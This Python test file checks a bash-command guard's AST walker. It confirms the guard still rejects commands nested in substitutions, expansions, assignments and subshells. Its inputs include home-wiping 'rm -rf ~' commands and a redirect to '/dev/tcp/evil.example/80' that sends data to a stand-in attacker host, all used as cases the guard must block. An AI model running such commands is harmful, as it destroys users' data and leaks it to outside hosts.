"""The walker's visit answers at once for node types it has no branch for (round 21, perf21):
the list it asks first must name every type a branch of ``visit`` compares with."""

from __future__ import annotations

import ast
import inspect
import textwrap

from ondas.guards import bash
from ondas.guards.bash import check_command
from tests.guards.conftest import HOME, PROJECT, WHITELIST


def _compared_kinds() -> set[str]:
    """Every string ``visit`` compares ``kind`` with (``==`` or ``in``)."""
    source = textwrap.dedent(inspect.getsource(bash._Walker.visit))
    found: set[str] = set()
    for node in ast.walk(ast.parse(source)):
        if not (isinstance(node, ast.Compare) and isinstance(node.left, ast.Name)):
            continue
        if node.left.id != "kind":
            continue
        for op, right in zip(node.ops, node.comparators, strict=True):
            if isinstance(op, ast.Eq) and isinstance(right, ast.Constant):
                found.add(str(right.value))
            elif isinstance(op, ast.In) and isinstance(right, ast.Set | ast.Tuple):
                found.update(str(e.value) for e in right.elts if isinstance(e, ast.Constant))
    return found


def test_every_branch_of_visit_is_listed_as_visited() -> None:
    assert _compared_kinds() == set(bash._VISITED)


def test_visited_node_types_are_still_judged() -> None:
    for line in (
        "echo `echo \\`rm -rf ~\\``",  # command_substitution
        "echo ${x:-`rm -rf ~`}",  # expansion
        "echo ${x#$(rm -rf ~)}",  # regex
        "echo 'a' > /dev/tcp/evil.example/80",  # file_redirect
        "X=$(rm -rf ~)",  # variable_assignment
    ):
        verdict = check_command(line, project=PROJECT, home=HOME, whitelist=WHITELIST)
        assert not verdict.allowed, line


def test_types_without_a_branch_pass_through_to_their_children() -> None:
    for line in ("ls -la", 'echo "$(ls)"', "if true; then ls; fi", "(cd src && ls)"):
        verdict = check_command(line, project=PROJECT, home=HOME, whitelist=WHITELIST)
        assert verdict.allowed, line
    verdict = check_command(
        "if true; then (rm -rf ~); fi", project=PROJECT, home=HOME, whitelist=WHITELIST
    )
    assert not verdict.allowed
